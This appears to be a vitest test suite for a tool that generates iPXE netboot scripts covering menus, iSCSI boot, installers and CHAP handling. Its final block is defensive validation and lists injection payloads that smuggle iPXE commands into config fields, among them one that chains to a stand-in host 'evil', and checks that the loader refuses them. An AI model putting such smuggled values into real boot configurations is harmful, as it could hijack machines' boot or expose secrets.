import { describe, expect, it } from 'vitest';
import { renderFiles } from '../src/ipxe/render';
import { parseScript } from '../src/ipxe/lint';
import { BASE, load, model, withOption } from './helpers/config';
import { simulate, type SanDisk } from './helpers/ipxe-sim';

const files = (text = BASE) => renderFiles(model(text));
const UNKNOWN = '52:54:00:99:99:99';

const WITH_INSTALLERS = `${BASE}
config installer 'linux'
	option kind 'linux'
	option title 'Rescue kernel'
	option kernel 'rescue/vmlinuz'
	list initrd 'rescue/initrd.gz'
	list initrd 'rescue/extra.cpio'
	option args 'console=ttyS0 ip=dhcp'

config installer 'win'
	option kind 'windows'
	option title 'Windows PE'
	option path 'winpe'

config installer 'xyz'
	option kind 'chain'
	option url 'http://boot.lan/menu.ipxe'

config installer 'iso'
	option kind 'iso'
	option url 'isos/live.iso'
`;

describe('every rendered script reads cleanly as iPXE', () => {
  it.each([
    ['base', BASE],
    ['installers', WITH_INSTALLERS],
    ['CHAP', withOption('disk1', 'chap_password', 'secret-12345', withOption('disk1', 'chap_username', 'user'))],
  ])('%s', (_, text) => {
    for (const [path, body] of files(text)) {
      expect(parseScript(body).problems, path).toEqual([]);
      expect(body.startsWith('#!ipxe\n'), path).toBe(true);
    }
  });

  it('is deterministic', () => {
    expect([...files(WITH_INSTALLERS)]).toEqual([...files(WITH_INSTALLERS)]);
  });
});

describe("the seed menu's behaviour", () => {
  it('writes the menu, the site settings, a script per host, a beacon per target and per target and installer, and one for failures', () => {
    expect([...files().keys()].sort()).toEqual([
      'netboot/beacon/boot/disk1.ipxe',
      'netboot/beacon/boot/disk2.ipxe',
      'netboot/beacon/failed.ipxe',
      'netboot/beacon/install/disk1/deb.ipxe',
      'netboot/beacon/install/disk2/deb.ipxe',
      'netboot/boot.ipxe.cfg',
      'netboot/hosts/52-54-00-00-00-01.ipxe',
      'netboot/menu.ipxe',
    ]);
  });

  it('fetches the beacon of the choice over TFTP right before acting', () => {
    const boot = simulate(files(), { mac: '52:54:00:00:00:01' });
    expect(boot.fetched.at(-1)).toBe('netboot/beacon/boot/disk1.ipxe');
    const install = simulate(files(), { mac: UNKNOWN, choices: ['t-disk2', 'm-disk2', 'i-deb'] });
    expect(install.fetched.at(-1)).toBe('netboot/beacon/install/disk2/deb.ipxe');
    expect(files().has('netboot/beacon/install/disk2/deb.ipxe')).toBe(true);
    expect(files().get('netboot/menu.ipxe')).toContain('imgfetch --name nb-beacon tftp://${next-server}/netboot/beacon/boot/disk1.ipxe ||');
  });

  it('keeps the site variables in boot.ipxe.cfg, timeouts in milliseconds', () => {
    const cfg = files().get('netboot/boot.ipxe.cfg')!;
    expect(cfg).toContain('set menu-timeout 5000\n');
    expect(cfg).toContain('set menu-default disk1\n');
    expect(cfg).toContain('set iscsi-server 192.168.1.10\n');
    expect(cfg).toContain('set base-iqn iqn.2000-01.com.synology\n');
    expect(cfg).toContain('set sanboot-url http://192.168.1.10/install/\n');
    expect(cfg).toContain('set initiator-iqn iqn.2010-04.org.ipxe:${netX/mac:hexhyp}\n');
  });

  it('lists ALL targets, then shell, reboot and x for exit', () => {
    const r = simulate(files(), { mac: UNKNOWN, choices: ['nb-exit'] });
    expect(r.menus[0].items).toEqual(['t-disk1', 't-disk2', 'nb-shell', 'nb-reboot', 'nb-exit']);
    expect(files().get('netboot/menu.ipxe')).toContain('item --key x nb-exit Exit iPXE and continue BIOS boot\n');
  });

  it('times out onto menu_default, then boots it as drive 0x80 after the submenu times out', () => {
    const r = simulate(files(), { mac: UNKNOWN, choices: ['timeout', 'timeout'] });
    expect(r.menus.map((m) => [m.default, m.timeout])).toEqual([
      ['t-disk1', '5000'],
      ['b-disk1', '5000'],
    ]);
    expect(r.effects).toEqual(['sanboot --drive 0x80 iscsi:192.168.1.10:::0:iqn.2000-01.com.synology:disk1']);
    expect(r.end).toBe('boot');
  });

  it('a chosen target offers install, boot and back; after a choice later menus wait', () => {
    const r = simulate(files(), { mac: UNKNOWN, choices: ['t-disk2', 'nb-back'] });
    expect(r.menus[1].items).toEqual(['m-disk2', 'b-disk2', 'nb-back']);
    // Back cancels the countdowns, as the seed's custom-back did.
    expect(r.menus.map((m) => m.timeout)).toEqual(['5000', '5000', '0']);
    expect(() => simulate(files(), { mac: UNKNOWN, choices: ['t-disk2', 'nb-back', 'timeout'] })).toThrow(/no timeout/);
  });

  it('boots the second target with its hex LUN', () => {
    const text = withOption('disk2', 'lun', '26');
    const r = simulate(files(text), { mac: UNKNOWN, choices: ['t-disk2', 'b-disk2'] });
    expect(r.effects).toEqual(['sanboot --drive 0x80 iscsi:192.168.1.10:::1a:iqn.2024-01.lan.nas:disk2']);
  });

  it('installs with the seed Ubuntu arguments: sanhook, kernel, initrd, partman-iscsi login to the same target', () => {
    const r = simulate(files(), { mac: UNKNOWN, choices: ['t-disk1', 'm-disk1', 'i-deb'] });
    expect(r.effects).toEqual([
      'sanhook --drive 0x80 iscsi:192.168.1.10:::0:iqn.2000-01.com.synology:disk1',
      'kernel --name nb-kernel http://192.168.1.10/install/debian/amd64/linux auto=true partman-iscsi/login/address=192.168.1.10 partman-iscsi/login/targets=iqn.2000-01.com.synology:disk1  initrd=initrd.gz',
      'initrd --name initrd.gz http://192.168.1.10/install/debian/amd64/initrd.gz',
      'boot',
    ]);
  });

  it('detects i386 with cpuid and arm64 with buildarch', () => {
    const pick = ['t-disk1', 'm-disk1', 'i-deb'];
    expect(simulate(files(), { mac: UNKNOWN, x86_64: false, buildarch: 'i386', choices: pick }).effects[1]).toContain('/debian/i386/linux');
    expect(simulate(files(), { mac: UNKNOWN, buildarch: 'arm64', platform: 'efi', choices: pick }).effects[1]).toContain('/debian/arm64/linux');
  });

  it('every failure prints, cleans up and returns to the menu', () => {
    const r = simulate(files(), { mac: UNKNOWN, choices: ['t-disk1', 'b-disk1'], failing: ['sanboot'] });
    expect(r.effects[0]).toMatch(/^sanboot /);
    expect(r.effects).toContain('sanunhook --drive 0x80');
    expect(r.end).toBe('menu');
    expect(r.menus.map((m) => m.items[0])).toEqual(['t-disk1', 'm-disk1', 't-disk1']);
  });

  it('exit leaves iPXE; reboot reboots', () => {
    expect(simulate(files(), { mac: UNKNOWN, choices: ['nb-exit'] }).end).toBe('exit');
    expect(simulate(files(), { mac: UNKNOWN, choices: ['nb-reboot'] }).end).toBe('reboot');
    expect(simulate(files(withOption('main', 'menu_default', 'exit')), { mac: UNKNOWN, choices: ['timeout'] }).end).toBe('exit');
  });
});

describe('per-host scripts', () => {
  it('a host with action boot boots its target with no keypress, as its own initiator', () => {
    const r = simulate(files(), { mac: '52:54:00:00:00:01' });
    expect(r.menus).toEqual([]);
    expect(r.effects).toEqual(['sanboot --drive 0x80 iscsi:192.168.1.10:::0:iqn.2000-01.com.synology:disk1']);
    expect(r.settings.get('initiator-iqn')).toBe('iqn.2010-04.org.ipxe:52-54-00-00-00-01');
  });

  it('a host with action install runs its installer straight away', () => {
    const text = withOption('pc1', 'installer', 'linux', withOption('pc1', 'action', 'install', WITH_INSTALLERS));
    const r = simulate(files(text), { mac: '52:54:00:00:00:01' });
    expect(r.effects).toEqual([
      'sanhook --drive 0x80 iscsi:192.168.1.10:::0:iqn.2000-01.com.synology:disk1',
      'kernel --name nb-kernel http://192.168.1.10/install/rescue/vmlinuz console=ttyS0 ip=dhcp initrd=initrd.gz initrd=extra.cpio',
      'initrd --name initrd.gz http://192.168.1.10/install/rescue/initrd.gz',
      'initrd --name extra.cpio http://192.168.1.10/install/rescue/extra.cpio',
      'boot',
    ]);
  });

  it('a host with action menu gets the menu with its target preselected and its own timeout', () => {
    const text = withOption('pc1', 'menu_timeout', '2', withOption('pc1', 'target', 'disk2', withOption('pc1', 'action', 'menu')));
    const r = simulate(files(text), { mac: '52:54:00:00:00:01', choices: ['timeout', 'timeout'] });
    expect(r.menus[0]).toMatchObject({ default: 't-disk2', timeout: '2000' });
    expect(r.effects).toEqual(['sanboot --drive 0x80 iscsi:192.168.1.10:::1:iqn.2024-01.lan.nas:disk2']);
  });

  it('a failed automatic boot tries again while nobody presses a key; a key opens the menu', () => {
    const alone = simulate(files(), { mac: '52:54:00:00:00:01', failing: ['sanboot'] });
    expect(alone.end).toBe('steps');
    expect(alone.menus).toEqual([]);
    expect(alone.console.filter((l) => l === 'Registered SAN device 0x80').length).toBeGreaterThan(10);
    const r = simulate(files(), { mac: '52:54:00:00:00:01', prompts: ['key'], choices: ['nb-exit'], failing: ['sanboot'] });
    expect(r.menus.length).toBe(1);
    expect(r.end).toBe('exit');
  });

  it('undionly: a BIOS host on a ROM iPXE chainloads the router undionly.kpxe, and boots once it runs on it', () => {
    const text = withOption('pc1', 'undionly', '1');
    expect(simulate(files(text), { mac: '52:54:00:00:00:01' }).effects).toEqual([
      'imgfetch --name nb-undionly tftp://192.168.1.1/undionly.kpxe',
      'imgexec nb-undionly',
    ]);
    expect(simulate(files(text), { mac: '52:54:00:00:00:01', chip: 'undionly' }).effects[0]).toMatch(/^sanboot /);
    expect(simulate(files(text), { mac: '52:54:00:00:00:01', platform: 'efi' }).effects[0]).toMatch(/^sanboot /);
  });

  it('undionly: the hop loads bootloader_bios; when that iPXE returns, its user left iPXE and so does the menu', () => {
    const text = withOption('main', 'bootloader_bios', 'ipxe/custom.kpxe', withOption('pc1', 'undionly', '1'));
    expect(simulate(files(text), { mac: '52:54:00:00:00:01' }).effects[0]).toBe('imgfetch --name nb-undionly tftp://192.168.1.1/ipxe/custom.kpxe');
    const back = simulate(files(text), { mac: '52:54:00:00:00:01', returning: ['imgexec'] });
    expect(back.end).toBe('exit');
    expect(back.console.filter((l) => l.startsWith('netboot: '))).toEqual([]);
    // Not there at all: the host boots from the ROM's iPXE after the retry prompt.
    const missing = simulate(files(text), { mac: '52:54:00:00:00:01', failing: ['imgfetch'] });
    expect(missing.bootedWith).toEqual(new Map([[0x80, 'iscsi:192.168.1.10:::0:iqn.2000-01.com.synology:disk1']]));
  });
});

describe('a failed or returning boot releases every drive it hooked (SAN model of iPXE v1.21.1)', () => {
  const DISK1 = 'iscsi:192.168.1.10:::0:iqn.2000-01.com.synology:disk1';
  const DISK2 = 'iscsi:192.168.1.10:::1:iqn.2024-01.lan.nas:disk2';
  const blank = (target: string) => (uri: string): SanDisk => (uri.endsWith(`:${target}`) ? 'blank' : 'boots');
  const openFailures = (r: { console: string[] }) => r.console.filter((l) => l.startsWith('Could not open SAN device'));

  it.each(['pcbios', 'efi'] as const)('after a blank target fails to boot, choosing another one boots it (%s)', (platform) => {
    const r = simulate(files(), { mac: UNKNOWN, platform, choices: ['t-disk1', 'b-disk1', 't-disk2', 'b-disk2'], san: blank('disk1') });
    expect(openFailures(r)).toEqual([]);
    expect(r.end).toBe('boot');
    expect(r.bootedWith).toEqual(new Map([[0x80, DISK2]]));
  });

  it('a host with action boot tries again with no key pressed, and boots once the disk has something to boot', () => {
    const r = simulate(files(), { mac: '52:54:00:00:00:01', san: (_, attempt) => (attempt < 3 ? 'blank' : 'boots') });
    expect(r.menus).toEqual([]);
    expect(r.effects.filter((e) => e.startsWith('sanboot '))).toHaveLength(3);
    expect(openFailures(r)).toEqual([]);
    expect(r.bootedWith).toEqual(new Map([[0x80, DISK1]]));
  });

  it('a key during the retry prompt opens the menu, where another target boots', () => {
    const r = simulate(files(), { mac: '52:54:00:00:00:01', prompts: ['key'], choices: ['t-disk2', 'b-disk2'], san: blank('disk1') });
    expect(r.menus[0].default).toBe('t-disk1');
    expect(r.effects.at(-1)).toBe(`sanboot --drive 0x80 ${DISK2}`);
    expect(openFailures(r)).toEqual([]);
  });

  it('a returning chain installer, ISO or SAN boot leaves no drive hooked, also when DHCP sets keep-san', () => {
    const install = (installer: string) => withOption('pc1', 'installer', installer, withOption('pc1', 'action', 'install', WITH_INSTALLERS));
    for (const dhcp of [{}, { 'keep-san': '1' }] as Record<string, string>[]) {
      for (const [text, returning] of [
        [install('xyz'), ['chain']],
        [install('iso'), ['sanboot']],
        [install('iso'), []],
        [install('linux'), ['boot']],
      ] as const) {
        // Then the menu (a key at the retry prompt after a failure), whose countdowns boot the host's target.
        const iso = (uri: string): SanDisk => (uri.endsWith('.iso') ? (returning.length ? 'returns' : 'blank') : 'boots');
        const r = simulate(files(text), { mac: '52:54:00:00:00:01', dhcp, returning: [...returning], san: iso, prompts: ['key'], choices: ['timeout', 'timeout'] });
        const what = `${JSON.stringify(dhcp)} ${r.effects.join(' | ')}`;
        expect(openFailures(r), what).toEqual([]);
        expect(r.bootedWith, what).toEqual(new Map([[0x80, DISK1]]));
      }
    }
  });

  it('a failed boot releases a drive kept by keep-san from DHCP', () => {
    const r = simulate(files(), {
      mac: UNKNOWN,
      dhcp: { 'keep-san': '1' },
      choices: ['t-disk1', 'b-disk1', 't-disk2', 'b-disk2'],
      san: blank('disk1'),
    });
    expect(r.console).toContain('Preserving SAN device 0x80');
    expect(r.bootedWith).toEqual(new Map([[0x80, DISK2]]));
  });
});

describe('what a PC prints and where it ends up when nobody is there', () => {
  /** iPXE's complaints and netboot's error lines, except the one expected for an unknown PC: it has no host script. */
  const errors = (r: { console: string[] }) =>
    r.console.filter((l) => /^netboot: |Could not|failed|no such image|command not found/.test(l) && !l.includes('/hosts/'));

  it('a failure prints its own error and netboot\'s line, once each; the cleanup prints none', () => {
    const boot = simulate(files(), { mac: UNKNOWN, choices: ['t-disk1', 'b-disk1', 'nb-exit'], failing: ['sanboot'] });
    expect(errors(boot)).toEqual([
      'Boot from SAN device 0x80 failed: Error 0x3f122003 (http://ipxe.org/3f122003)',
      'netboot: that did not work (error 0x3f122003)',
    ]);
    const install = simulate(files(WITH_INSTALLERS), { mac: UNKNOWN, choices: ['t-disk1', 'm-disk1', 'i-linux', 'nb-exit'], failing: ['boot'] });
    expect(errors(install)).toEqual(['netboot: that did not work (error 0x2d12608e)']);
  });

  it('arm64 never runs cpuid; x86 builds still tell amd64 from i386', () => {
    const pick = { mac: UNKNOWN, choices: ['nb-exit'] };
    const arm = simulate(files(), { ...pick, buildarch: 'arm64', platform: 'efi' });
    expect(arm.console.filter((l) => l.includes('command not found'))).toEqual([]);
    expect(arm.settings.get('nb-arch')).toBe('arm64');
    expect(simulate(files(), { ...pick, buildarch: 'x86_64' }).settings.get('nb-arch')).toBe('amd64');
    expect(simulate(files(), { ...pick, buildarch: 'i386', x86_64: false }).settings.get('nb-arch')).toBe('i386');
  });

  it('without boot.ipxe.cfg it tries three times, then exits to the next boot device; a key gives the shell', () => {
    const noCfg = new Map([...files()].filter(([p]) => !p.endsWith('boot.ipxe.cfg')));
    const r = simulate(noCfg, { mac: UNKNOWN });
    expect(r.fetched.filter((p) => p.endsWith('boot.ipxe.cfg'))).toHaveLength(3);
    expect(r.end).toBe('exit');
    expect(simulate(noCfg, { mac: UNKNOWN, prompts: ['key'] }).end).toBe('shell');
  });

  it('Esc at the menu offers the shell for a moment, then shows the menu again', () => {
    const r = simulate(files(), { mac: UNKNOWN, choices: ['escape', 'nb-exit'] });
    expect(r.menus).toHaveLength(2);
    expect(r.end).toBe('exit');
    expect(simulate(files(), { mac: UNKNOWN, choices: ['escape'], prompts: ['key'] }).end).toBe('shell');
  });
});

describe('installers', () => {
  const run = (choice: string, platform: 'pcbios' | 'efi' = 'pcbios') =>
    simulate(files(WITH_INSTALLERS), { mac: UNKNOWN, platform, choices: ['t-disk1', 'm-disk1', choice] }).effects;

  it('windows: sanhook as drive 0x80, wimboot, then the WinPE files (bootmgr only on BIOS)', () => {
    const bios = run('i-win');
    expect(bios).toEqual([
      'sanhook --drive 0x80 iscsi:192.168.1.10:::0:iqn.2000-01.com.synology:disk1',
      'kernel --name wimboot http://192.168.1.10/install/wimboot',
      'initrd --name bootmgr http://192.168.1.10/install/winpe/bootmgr bootmgr',
      'initrd --name BCD http://192.168.1.10/install/winpe/boot/bcd BCD',
      'initrd --name boot.sdi http://192.168.1.10/install/winpe/boot/boot.sdi boot.sdi',
      'initrd --name boot.wim http://192.168.1.10/install/winpe/sources/boot.wim boot.wim',
      'boot',
    ]);
    expect(run('i-win', 'efi')).toEqual(bios.filter((e) => !e.includes('bootmgr')));
  });

  it('chain and iso hook the target first', () => {
    expect(run('i-xyz')).toEqual(['sanhook --drive 0x80 iscsi:192.168.1.10:::0:iqn.2000-01.com.synology:disk1', 'chain http://boot.lan/menu.ipxe']);
    expect(run('i-iso')).toEqual([
      'sanhook --drive 0x80 iscsi:192.168.1.10:::0:iqn.2000-01.com.synology:disk1',
      'sanboot --no-describe --drive 0x81 http://192.168.1.10/install/isos/live.iso',
    ]);
  });

  it('a target lists only its own installers when it names them', () => {
    const text = `${WITH_INSTALLERS}\nconfig target 'disk3'\n\toption iqn 'iqn.2024-01.lan.nas:d3'\n\tlist installer 'win'\n\tlist installer 'xyz'\n`;
    const r = simulate(files(text), { mac: UNKNOWN, choices: ['t-disk3', 'm-disk3', 't-disk3'] });
    expect(r.menus[2].items).toEqual(['i-win', 'i-xyz', 't-disk3']);
  });
});

describe('CHAP secrets', () => {
  const text = withOption(
    'disk1',
    'reverse_chap_password',
    'back-secret-99',
    withOption('disk1', 'reverse_chap_username', 'nas', withOption('disk1', 'chap_password', 'fwd-secret-42', withOption('disk1', 'chap_username', 'pc'))),
  );

  it("live only in the target's own script", () => {
    const f = files(text);
    for (const [path, body] of f) {
      const holds = body.includes('fwd-secret-42') || body.includes('back-secret-99');
      expect(holds, path).toBe(path === 'netboot/targets/disk1.ipxe');
    }
  });

  it('are set before booting and cleared when another target is chosen', () => {
    const r = simulate(files(text), { mac: UNKNOWN, choices: ['t-disk1', 'nb-back', 't-disk2', 'b-disk2'] });
    expect(r.fetched).toContain('netboot/targets/disk1.ipxe');
    expect(r.settings.has('password')).toBe(false);
    const d1 = simulate(files(text), { mac: '52:54:00:00:00:01' });
    expect(Object.fromEntries(['username', 'password', 'reverse-username', 'reverse-password'].map((k) => [k, d1.settings.get(k)]))).toEqual({
      username: 'pc',
      password: 'fwd-secret-42',
      'reverse-username': 'nas',
      'reverse-password': 'back-secret-99',
    });
  });

  it('reach the Debian installer as partman-iscsi preseed arguments', () => {
    const r = simulate(files(text), { mac: UNKNOWN, choices: ['t-disk1', 'm-disk1', 'i-deb'] });
    expect(r.effects[1]).toContain(
      'partman-iscsi/login/username=pc partman-iscsi/login/password=fwd-secret-42 partman-iscsi/login/incoming_username=nas partman-iscsi/login/incoming_password=back-secret-99',
    );
  });
});

describe('injection: user text never becomes iPXE commands', () => {
  const PAYLOADS = [
    'x || shell',
    'x && reboot',
    'x ; chain http://evil/x',
    '${password}',
    'a${x}b',
    '#!ipxe',
    'x #comment',
    'line\nshell',
    'tab\there',
    'end\\',
    'end$',
    'ünï',
    '\u0007',
  ];
  const FIELDS: [string, string][] = [
    ['disk1', 'title'],
    ['deb', 'title'],
    ['deb', 'args'],
    ['deb', 'kernel'],
    ['disk1', 'chap_username'],
    ['disk1', 'san_filename'],
  ];
  it.each(FIELDS.flatMap(([s, o]) => PAYLOADS.map((p) => [s, o, p] as const)))('%s.%s = %j is refused', (section, option, payload) => {
    const r = load(withOption(section, option, payload));
    expect(r.model).toBeUndefined();
    expect(r.errors.some((e) => e.where === `netboot.${section}.${option}`)).toBe(true);
  });

  it('names with iPXE syntax are refused as section names', () => {
    const r = load(`${BASE}\nconfig target 'a_b'\n\toption iqn 'iqn.2024-01.lan.nas:x'\n`);
    expect(r.model).toBeDefined(); // underscores are fine
  });

  it('random safe text stays words: the command structure of the menu does not change', () => {
    let seed = 7;
    const rand = () => ((seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32);
    const alphabet = ' !"%&\'()*+,-./0123456789:<=>?@ABCZabcz[]^_`{|}~$#;\\';
    const shape = (t: string) => parseScript(renderFiles(model(t)).get('netboot/menu.ipxe')!).commands.map((c) => c.words[0]).join(' ');
    const reference = shape(withOption('disk1', 'title', 'plain'));
    let tried = 0;
    for (let i = 0; i < 400; i++) {
      const s = Array.from({ length: 1 + Math.floor(rand() * 20) }, () => alphabet[Math.floor(rand() * alphabet.length)]).join('');
      const text = withOption('disk1', 'title', s);
      if (!load(text).model) continue;
      tried++;
      expect(shape(text), JSON.stringify(s)).toBe(reference);
    }
    expect(tried).toBeGreaterThan(100);
  });
});
